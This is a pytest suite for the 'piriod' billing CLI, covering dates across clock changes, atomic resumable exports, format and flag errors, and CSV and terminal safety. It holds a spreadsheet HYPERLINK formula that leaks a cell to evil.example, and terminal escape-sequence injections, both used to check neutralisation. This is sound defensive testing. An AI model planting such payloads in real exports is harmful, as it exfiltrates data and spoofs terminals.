"""The `piriod` command as finance staff run it for a month-end close: the real command in a
subprocess, against servers on 127.0.0.1 that misbehave on purpose (tests/hostile.py's
HostileAPI, and the sandbox over HTTP). What is checked is what people rely on: the bytes
of the files, the exit status and the one line on stderr."""

from __future__ import annotations

import csv
import datetime
import io
import json
import os
import resource
import shlex
import subprocess
import sys
import time
import zoneinfo
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hostile import HostileAPI, serving

from piriod import sandbox
from piriod.sandbox import DEFAULT_TOKEN, DEFAULT_WORKSPACE, SandboxAPI, SandboxServer

from conftest import ROOT, make_customer, this_code_env

TIMEOUT = 60
BIN = Path(sys.executable).parent
ZONE = "America/Santiago"  # the subprocess's local time zone: dates without offset are in it


def environment(url: str, **extra: str) -> dict[str, str]:
    env = {
        name: value
        for name, value in os.environ.items()
        if not name.startswith("PIRIOD_") and name != "COLUMNS"
    }
    return this_code_env(
        {
            **env,
            "PIRIOD_BASE_URL": url,
            "PIRIOD_API_TOKEN": DEFAULT_TOKEN,
            "PIRIOD_WORKSPACE": DEFAULT_WORKSPACE,
            "TZ": ZONE,
            "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}",
            **extra,
        }
    )


def piriod(
    url: str,
    *args: str,
    cwd: Path | None = None,
    env: dict[str, str] | None = None,
    preexec_fn: Callable[[], None] | None = None,
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "piriod", *args],
        env=env or environment(url),
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
        check=False,
        preexec_fn=preexec_fn,
    )


def shell(command: str, url: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """Runs a command line exactly as printed, the way a person pastes it."""
    return subprocess.run(
        ["/bin/sh", "-c", command],
        env=environment(url),
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
        check=False,
    )


def one_error_line(done: subprocess.CompletedProcess[str], status: int, *needles: str) -> str:
    assert done.returncode == status, done.stderr
    assert done.stderr.startswith("piriod: error: "), done.stderr
    assert done.stderr.count("\n") == 1, done.stderr
    assert "Traceback" not in done.stderr
    for needle in needles:
        assert needle in done.stderr, done.stderr
    return done.stderr.strip()


def customer_ids(numbers: range) -> list[str]:
    return [make_customer(number)["id"] for number in numbers]


@pytest.fixture
def hostile() -> Iterator[tuple[HostileAPI, str]]:
    api = HostileAPI(250)
    with serving(api) as url:
        yield api, url


def ids_in(path: Path, fmt: str) -> list[str]:
    data = path.read_bytes().decode("utf-8")
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data, newline="")))
        assert rows[0][0] == "id"
        assert sum(1 for row in rows if row[0] == "id") == 1  # one header
        return [row[0] for row in rows[1:]]
    if fmt == "json":
        return [item["id"] for item in json.loads(data)]
    return [json.loads(line)["id"] for line in data.splitlines()]


# --- dates -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sandbox_server() -> Iterator[SandboxServer]:
    with SandboxServer(SandboxAPI(seed=5, customers=400)) as server:
        yield server


def created_days(server: SandboxServer) -> dict[datetime.date, list[str]]:
    """The sandbox's customers by the local (ZONE) day they were created."""
    days: dict[datetime.date, list[str]] = {}
    with sandbox.client(server.api) as client:
        for customer in client.customers.list():
            assert isinstance(customer.created, datetime.datetime)
            day = customer.created.astimezone(zoneinfo.ZoneInfo(ZONE)).date()
            days.setdefault(day, []).append(customer.id)
    return days


def test_a_date_alone_in_created_until_includes_that_whole_day(
    sandbox_server: SandboxServer,
) -> None:
    """It used to mean midnight at the start of the day: 0 rows for since D until D."""
    days = created_days(sandbox_server)
    day, expected = max(days.items(), key=lambda entry: (len(entry[1]), entry[0]))
    assert len(expected) >= 2
    text = day.isoformat()
    same_day = piriod(
        sandbox_server.url, "customers", "list", "--created-since", text, "--created-until", text
    )
    assert same_day.returncode == 0, same_day.stderr
    assert sorted(json.loads(line)["id"] for line in same_day.stdout.splitlines()) == sorted(
        expected
    )
    one_day = piriod(sandbox_server.url, "customers", "list", "--created", text)
    assert one_day.returncode == 0, one_day.stderr
    assert sorted(json.loads(line)["id"] for line in one_day.stdout.splitlines()) == sorted(
        expected
    )
    until = piriod(sandbox_server.url, "customers", "list", "--created-until", text)
    through = sorted(ids for seen, ids_of_day in days.items() if seen <= day for ids in ids_of_day)
    assert sorted(json.loads(line)["id"] for line in until.stdout.splitlines()) == through


@pytest.mark.parametrize(
    "text", ["01/02/2026", "March", "5", "2026-01", "2026", "2026-W05", "Jan 5 2026", "2026-02-30"]
)
def test_dates_that_are_not_iso_8601_are_refused_before_any_request(
    hostile: tuple[HostileAPI, str], text: str
) -> None:
    api, url = hostile
    done = piriod(url, "customers", "list", "--created-until", text)
    one_error_line(done, 2, "--created-until", "2026-01-05T10:00:00-03:00", repr(text))
    assert api.pages_asked() == []


def test_help_names_the_time_zone_of_a_date_without_offset(hostile: tuple[HostileAPI, str]) -> None:
    _, url = hostile
    done = piriod(url, "customers", "list", "--help")
    assert done.returncode == 0
    assert "this computer's time zone" in done.stdout
    assert "(UTC-03:00)" in " ".join(done.stdout.split()) or "(UTC-04:00)" in done.stdout


def test_dates_without_offset_are_sent_as_local_time_with_an_offset(
    hostile: tuple[HostileAPI, str],
) -> None:
    api, url = hostile
    done = piriod(
        url, "customers", "list", "--created-since", "2026-01-05", "--created-until", "2026-01-05"
    )
    assert done.returncode == 0, done.stderr
    query = api.queries[0]
    assert query["created__gte"] == ["2026-01-05T00:00:00-03:00"]  # Chilean summer time
    assert query["created__lte"] == ["2026-01-05T23:59:59.999999-03:00"]


@pytest.mark.parametrize(
    ("day", "first", "last"),
    [
        # The clock goes back at midnight: 25 hours, the last one at -04:00.
        ("2026-04-04", "2026-04-04T00:00:00-03:00", "2026-04-04T23:59:59.999999-04:00"),
        # The clock jumps from midnight to 01:00: 23 hours, starting at 01:00.
        ("2026-09-06", "2026-09-06T01:00:00-03:00", "2026-09-06T23:59:59.999999-03:00"),
        # The day before the jump ends at the jump, an instant before the 6th starts.
        ("2026-09-05", "2026-09-05T00:00:00-04:00", "2026-09-05T23:59:59.999999-04:00"),
    ],
)
def test_a_whole_day_is_every_instant_of_it_on_days_the_clock_changes(
    hostile: tuple[HostileAPI, str], day: str, first: str, last: str
) -> None:
    api, url = hostile
    done = piriod(url, "customers", "list", "--created", day, "--limit", "1")
    assert done.returncode == 0, done.stderr
    assert api.queries[0]["created__gte"] == [first]
    assert api.queries[0]["created__lte"] == [last]


def test_a_day_the_time_zone_skipped_is_refused_and_its_neighbours_are_whole(
    hostile: tuple[HostileAPI, str],
) -> None:
    # Samoa moved across the date line: 29 December 2011 was followed by the 31st.
    api, url = hostile
    env = environment(url, TZ="Pacific/Apia")
    skipped = piriod(url, "customers", "list", "--created", "2011-12-30", env=env)
    one_error_line(skipped, 2, "'2011-12-30' is a day this computer's time zone skipped")
    assert api.queries == []
    before = piriod(url, "customers", "list", "--created", "2011-12-29", "--limit", "1", env=env)
    assert before.returncode == 0, before.stderr
    assert api.queries[0]["created__gte"] == ["2011-12-29T00:00:00-10:00"]
    assert api.queries[0]["created__lte"] == ["2011-12-29T23:59:59.999999-10:00"]


def test_a_time_the_local_clock_skipped_is_refused(hostile: tuple[HostileAPI, str]) -> None:
    # Chile's clocks went from 00:00 to 01:00 on 11 September 2022: 00:30 never happened,
    # and used to be sent as another time.
    api, url = hostile
    done = piriod(url, "customers", "list", "--created-since", "2022-09-11T00:30")
    one_error_line(done, 2, "'2022-09-11T00:30' is a time this computer's clock skipped")
    assert api.queries == []


# --- --output: atomic, resumable ---------------------------------------------------------------

OLD_EXPORT = b"id,name\ncus_yesterday,Complete export of yesterday\n"


@pytest.mark.parametrize(("status", "page"), [(401, 1), (503, 1)])
def test_a_failure_before_any_row_leaves_the_previous_export_untouched(
    hostile: tuple[HostileAPI, str], tmp_path: Path, status: int, page: int
) -> None:
    """An expired token or the API down used to leave yesterday's customers.csv at 0 bytes."""
    api, url = hostile
    api.status_on = lambda number: status if number == page else 200
    target = tmp_path / "customers.csv"
    target.write_bytes(OLD_EXPORT)
    done = piriod(url, "customers", "list", "--output", "customers.csv", cwd=tmp_path)
    one_error_line(done, 1, str(status), "customers.csv is unchanged")
    assert target.read_bytes() == OLD_EXPORT
    leftovers = sorted(path.name for path in tmp_path.iterdir() if path != target)
    assert all(".tmp" not in name for name in leftovers)


@pytest.mark.parametrize(
    ("fmt", "name"),
    [("csv", "customers.csv"), ("json", "customers.json"), ("jsonl", "customers.jsonl")],
)
def test_the_printed_resume_command_completes_the_same_file_with_every_row_once(
    hostile: tuple[HostileAPI, str], tmp_path: Path, fmt: str, name: str
) -> None:
    """It used to say `--start-page 5`, which truncated the file and wrote a second header."""
    api, url = hostile
    failing = {3: 503, 5: 503}
    api.status_on = lambda page: failing.get(page, 200)
    target = tmp_path / name
    target.write_bytes(OLD_EXPORT)
    first = piriod(url, "customers", "list", "--output", name, "--page-size", "40", cwd=tmp_path)
    line = one_error_line(first, 1, "[page 3]", f"{name} is unchanged", f"{name}.partial")
    assert target.read_bytes() == OLD_EXPORT
    partial = tmp_path / f"{name}.partial"
    if fmt == "json":  # an unclosed array: plainly not a complete export
        partial_ids = [item["id"] for item in json.loads(partial.read_text("utf-8") + "\n]")]
    else:
        partial_ids = ids_in(partial, fmt)
    assert partial_ids == customer_ids(range(1, 81))
    command = line.split("finish it with: ", 1)[1]
    assert command == shlex.join(
        ["piriod", "customers", "list", "--output", name, "--page-size", "40", "--resume"]
    )

    del failing[3]  # page 3 answers now; page 5 still fails: resume twice
    second = shell(command, url, tmp_path)
    assert one_error_line(second, 1, "[page 5]").endswith(command)
    assert target.read_bytes() == OLD_EXPORT

    failing.clear()
    third = shell(command, url, tmp_path)
    assert (third.returncode, third.stdout, third.stderr) == (0, "", "")
    assert ids_in(target, fmt) == customer_ids(range(1, 251))
    assert sorted(path.name for path in tmp_path.iterdir()) == [name]
    assert api.pages_asked().count(1) == 1  # pages already written were not asked again


def test_a_partial_csv_is_cut_at_a_page_boundary(
    hostile: tuple[HostileAPI, str], tmp_path: Path
) -> None:
    api, url = hostile
    api.status_on = lambda page: 503 if page == 4 else 200
    done = piriod(url, "customers", "list", "--output", "c.csv", "--page-size", "30", cwd=tmp_path)
    one_error_line(done, 1, "(90 customers)")
    partial = tmp_path / "c.csv.partial"
    assert ids_in(partial, "csv") == customer_ids(range(1, 91))
    assert not (tmp_path / "c.csv").exists()


def test_resume_refuses_a_command_that_would_mix_two_exports(
    hostile: tuple[HostileAPI, str], tmp_path: Path
) -> None:
    api, url = hostile
    api.status_on = lambda page: 503 if page == 2 else 200
    piriod(url, "customers", "list", "--output", "c.jsonl", "--search", "spa", cwd=tmp_path)
    api.status_on = lambda page: 200
    done = piriod(
        url, "customers", "list", "--output", "c.jsonl", "--search", "ltda", "--resume",
        cwd=tmp_path,
    )  # fmt: skip
    one_error_line(done, 2, "--resume", "--search", "'spa'", "'ltda'")
    nothing = piriod(url, "customers", "list", "--output", "other.jsonl", "--resume", cwd=tmp_path)
    one_error_line(nothing, 2, "no failed export")


def test_a_full_file_system_keeps_whole_pages_and_the_resume_finishes(
    hostile: tuple[HostileAPI, str], tmp_path: Path
) -> None:
    """An I/O error mid-export (here the file-size limit, EFBIG) used to print a traceback."""
    _, url = hostile

    def small_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (60_000, resource.RLIM_INFINITY))

    target = tmp_path / "customers.jsonl"
    target.write_bytes(OLD_EXPORT)
    done = piriod(
        url, "customers", "list", "--output", "customers.jsonl", "--page-size", "20",
        cwd=tmp_path, preexec_fn=small_files,
    )  # fmt: skip
    line = one_error_line(done, 1, "cannot write --output customers.jsonl", "File too large")
    assert target.read_bytes() == OLD_EXPORT
    kept = ids_in(tmp_path / "customers.jsonl.partial", "jsonl")
    assert kept == customer_ids(range(1, len(kept) + 1))
    assert len(kept) % 20 == 0
    assert len(kept) > 0
    finished = shell(line.split("finish it with: ", 1)[1], url, tmp_path)
    assert finished.returncode == 0, finished.stderr
    assert ids_in(target, "jsonl") == customer_ids(range(1, 251))


def test_dev_full_is_one_line(hostile: tuple[HostileAPI, str]) -> None:
    _, url = hostile
    done = piriod(url, "customers", "list", "--format", "csv", "--output", "/dev/full")
    one_error_line(done, 1, "/dev/full", "No space left on device")


def test_stdout_on_a_full_device_is_one_line(hostile: tuple[HostileAPI, str]) -> None:
    _, url = hostile
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "piriod", "customers", "list"],
            env=environment(url),
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=TIMEOUT,
            check=False,
        )
    assert done.returncode == 1
    assert done.stderr.count("\n") == 1
    assert done.stderr.startswith("piriod: error: cannot write standard output")


# --- the format follows the file name ---------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fmt"),
    [("c.csv", "csv"), ("c.json", "json"), ("c.jsonl", "jsonl"), ("c.NDJSON", "jsonl")],
)
def test_the_format_comes_from_the_extension(
    hostile: tuple[HostileAPI, str], tmp_path: Path, name: str, fmt: str
) -> None:
    """`--output customers.csv` used to write JSON Lines, with exit 0."""
    _, url = hostile
    done = piriod(url, "customers", "list", "--output", name, "--limit", "3", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert ids_in(tmp_path / name, fmt) == customer_ids(range(1, 4))


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--format", "json", "--output", "c.csv"], "contradicts"),
        (["--format", "table", "--output", "c.txt"], "--format table"),
        (["--output", "c.xlsx"], ".xlsx"),
        (["--keep-formulas", "--output", "c.jsonl"], "--keep-formulas is for CSV"),
    ],
)
def test_a_format_that_contradicts_the_file_is_a_usage_error(
    hostile: tuple[HostileAPI, str], tmp_path: Path, args: list[str], needle: str
) -> None:
    api, url = hostile
    done = piriod(url, "customers", "list", *args, cwd=tmp_path)
    one_error_line(done, 2, needle)
    assert api.pages_asked() == []
    assert list(tmp_path.iterdir()) == []


# --- spreadsheets --------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Pay")'


def with_names(api: HostileAPI, names: dict[int, str]) -> None:
    def edit(item: dict[str, Any]) -> dict[str, Any]:
        number = int(item["id"].split("_")[1])
        if number in names:
            item["name"] = names[number]
        return item

    api.edit_item = edit


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
    hostile: tuple[HostileAPI, str], tmp_path: Path
) -> None:
    api, url = hostile
    risky = {1: FORMULA, 2: "+56 9 1234", 3: "-1+1", 4: "@SUM(A1)", 5: "\tTab", 6: "\rCR", 7: "Ok"}
    with_names(api, risky)
    done = piriod(url, "customers", "list", "--output", "c.csv", "--limit", "7", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with (tmp_path / "c.csv").open(encoding="utf-8", newline="") as file:
        names = [row["name"] for row in csv.DictReader(file)]
    assert names == ["'" + name for name in list(risky.values())[:6]] + ["Ok"]

    raw = piriod(
        url, "customers", "list", "--output", "raw.csv", "--limit", "7", "--keep-formulas",
        cwd=tmp_path,
    )  # fmt: skip
    assert raw.returncode == 0, raw.stderr
    with (tmp_path / "raw.csv").open(encoding="utf-8", newline="") as file:
        assert [row["name"] for row in csv.DictReader(file)] == list(risky.values())


def test_excel_semicolon_writes_a_bom_and_semicolons(
    hostile: tuple[HostileAPI, str], tmp_path: Path
) -> None:
    api, url = hostile
    with_names(api, {1: "Comercial Ñuñoa; Ltda"})
    done = piriod(
        url, "customers", "list", "--output", "c.csv", "--limit", "2", "--excel-semicolon",
        cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    data = (tmp_path / "c.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid;name;tax_id;")
    assert data.count(b"\xef\xbb\xbf") == 1
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1][1] == "Comercial Ñuñoa; Ltda"
    assert len(rows) == 3


def test_excel_semicolon_resumed_has_one_bom(
    hostile: tuple[HostileAPI, str], tmp_path: Path
) -> None:
    api, url = hostile
    api.status_on = lambda page: 503 if page == 2 else 200
    args = ["customers", "list", "--output", "c.csv", "--excel-semicolon", "--page-size", "100"]
    line = one_error_line(piriod(url, *args, cwd=tmp_path), 1, "--resume")
    api.status_on = lambda page: 200
    assert shell(line.split("finish it with: ", 1)[1], url, tmp_path).returncode == 0
    data = (tmp_path / "c.csv").read_bytes()
    assert data.count(b"\xef\xbb\xbf") == 1
    assert data.count(b"id;name;") == 1
    assert len(data.decode("utf-8-sig").splitlines()) == 251


# --- flags ---------------------------------------------------------------------------------


def test_every_filter_has_a_flag_and_any_other_parameter_passes(
    hostile: tuple[HostileAPI, str],
) -> None:
    api, url = hostile
    done = piriod(
        url, "customers", "list", "--subscriptions", "sub_1", "--sources", "src_1",
        "--param", "metadata__crm_id=4471", "--search", "-SpA", "--name", "-Ltda",
        "--workspace", "acc_other", "--test-mode", "--timeout", "7",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    query = api.queries[0]
    assert query["subscriptions"] == ["sub_1"]
    assert query["sources"] == ["src_1"]
    assert query["metadata__crm_id"] == ["4471"]
    assert query["search"] == ["-SpA"]
    assert query["name"] == ["-Ltda"]
    assert api.headers[0]["x-simple-workspace"] == "acc_other"
    assert api.headers[0]["x-piriod-test-mode"] == "true"
    live = piriod(url, "customers", "list", "--live-mode", "--limit", "1")
    assert live.returncode == 0
    assert api.headers[-1]["x-piriod-test-mode"] == "false"


def test_limit_asks_for_no_more_than_it_needs(hostile: tuple[HostileAPI, str]) -> None:
    """`--limit 1` used to ask for 100 customers."""
    api, url = hostile
    done = piriod(url, "customers", "list", "--limit", "1")
    assert [json.loads(line)["id"] for line in done.stdout.splitlines()] == customer_ids(
        range(1, 2)
    )
    assert [query["page_size"] for query in api.queries] == [["1"]]
    piriod(url, "customers", "list", "--limit", "150", "--page-size", "100")
    assert [query["page_size"] for query in api.queries[1:]] == [["100"], ["100"]]


def test_timeout_bounds_a_slow_reply(hostile: tuple[HostileAPI, str]) -> None:
    api, url = hostile
    api.delay_on = lambda page: 3.0
    started = time.monotonic()
    done = piriod(url, "customers", "list", "--timeout", "0.3", env=environment(url))
    one_error_line(done, 1)
    assert time.monotonic() - started < 15


@pytest.mark.parametrize(
    ("args", "needles"),
    [
        (["--serch", "spa"], ["--serch: did you mean --search?"]),
        (["--created-untill", "2026-01-05"], ["did you mean --created-until?"]),
        (["--output-file", "x"], ["did you mean --output?"]),
        (["--token", "sk_live_x"], ["PIRIOD_API_TOKEN"]),
        (["--concurrency", "100"], ["--concurrency", "1 to 32"]),
        (["--param", "country=CL"], ["use --country instead"]),
        (["--param", "crm"], ["NAME=VALUE"]),
        (["--created", "2026-01-05", "--created-since", "2026-01-01"], ["--created"]),
        (["--name", ""], ["--name", "empty"]),
        (["--timeout", "0"], ["--timeout"]),
        (["--resume"], ["--output"]),
    ],
)
def test_usage_errors_speak_in_flags(
    hostile: tuple[HostileAPI, str], args: list[str], needles: list[str]
) -> None:
    api, url = hostile
    text = one_error_line(piriod(url, "customers", "list", *args), 2, *needles)
    for python_words in ("concurrency=", "Piriod(", "extra_params", "name=''", "_count"):
        assert python_words not in text
    assert api.pages_asked() == []


def test_missing_credentials_name_the_variables_not_python_arguments(tmp_path: Path) -> None:
    env = environment("http://127.0.0.1:9")
    del env["PIRIOD_API_TOKEN"]
    text = one_error_line(piriod("", "customers", "list", env=env), 2, "PIRIOD_API_TOKEN")
    assert "Piriod(" not in text
    env = environment("http://127.0.0.1:9")
    del env["PIRIOD_WORKSPACE"]
    text = one_error_line(piriod("", "customers", "list", env=env), 2, "PIRIOD_WORKSPACE")
    assert "--workspace" in text
    assert "Piriod(" not in text


@pytest.mark.parametrize(
    ("args", "needle", "python_words"),
    [
        (["--latency-ms", "-5"], "--latency-ms", "latency_ms"),
        (["--port", "x"], "--port", "_count"),
        (["--seed", "x"], "--seed", "invalid int"),
    ],
)
def test_sandbox_usage_errors_speak_in_flags(
    args: list[str], needle: str, python_words: str
) -> None:
    text = one_error_line(piriod("", "sandbox", *args, env=environment("")), 2, needle)
    assert python_words not in text


def test_a_drift_warning_is_one_line_in_the_clis_words(hostile: tuple[HostileAPI, str]) -> None:
    api, url = hostile
    api.reported_count = lambda page: 250 if page == 1 else 251
    api.items_on = lambda page, numbers: numbers
    done = piriod(url, "customers", "list", "--page-size", "100")
    warnings = [line for line in done.stderr.splitlines() if line.startswith("piriod: warning:")]
    assert len(warnings) == 1
    assert done.stderr.count("\n") >= 1
    assert "--ordering created" in warnings[0]
    assert "on_drift" not in done.stderr
    assert ".py:" not in done.stderr


def test_an_item_with_a_null_name_in_a_table_is_one_line(hostile: tuple[HostileAPI, str]) -> None:
    api, url = hostile
    with_names(api, {})
    api.edit_item = lambda item: {**item, "name": None} if item["id"].endswith("02") else item
    failed = piriod(url, "customers", "list", "--format", "table")
    one_error_line(failed, 1, "`name`")
    skipped = piriod(url, "customers", "list", "--format", "table", "--on-invalid", "skip")
    assert skipped.returncode == 0
    assert "--on-invalid skip" in skipped.stderr
    assert "Traceback" not in skipped.stderr


def test_control_characters_never_reach_the_terminal(hostile: tuple[HostileAPI, str]) -> None:
    api, url = hostile
    with_names(
        api, {1: "Evil\x1b]0;pwned\x07 SpA", 2: "Clear\x1b[2J\x1b[H", 3: "Fake\nrow\u009b31m"}
    )
    done = piriod(url, "customers", "list", "--format", "table", "--limit", "4")
    assert done.returncode == 0, done.stderr
    assert all(ord(char) >= 32 or char == "\n" for char in done.stdout)
    assert not any(0x7F <= ord(char) <= 0x9F for char in done.stdout)
    lines = done.stdout.splitlines()
    assert len(lines) == 5  # the header and 4 rows: no fake row
    assert "Evil SpA" in lines[1]
    assert "pwned" not in done.stdout


# --- fast start --------------------------------------------------------------------------------


def imported_by(*args: str) -> set[str]:
    done = subprocess.run(
        [sys.executable, "-X", "importtime", *args],
        env=this_code_env(),
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
        check=False,
        cwd=ROOT,
    )
    assert done.returncode == 0
    return {line.split("|")[-1].strip() for line in done.stderr.splitlines() if "|" in line}


def test_version_and_help_import_neither_the_sandbox_nor_rich_nor_the_models() -> None:
    """They imported the sandbox (0.4 s). What `import piriod` needs (httpx brings some of
    rich when installed) is the floor; the CLI adds only its parser."""
    floor = imported_by("-c", "import piriod")
    for args in (["--version"], ["--help"], ["customers", "list", "--help"]):
        added = imported_by("-m", "piriod", *args) - floor
        assert "piriod.cli._arguments" in added
        heavy = {
            name
            for name in added
            if name.startswith(("rich", "piriod.sandbox", "piriod_api.models"))
            or name in ("piriod.cli._columns", "piriod.cli._writers", "piriod.cli._progress")
        }
        assert heavy == set()
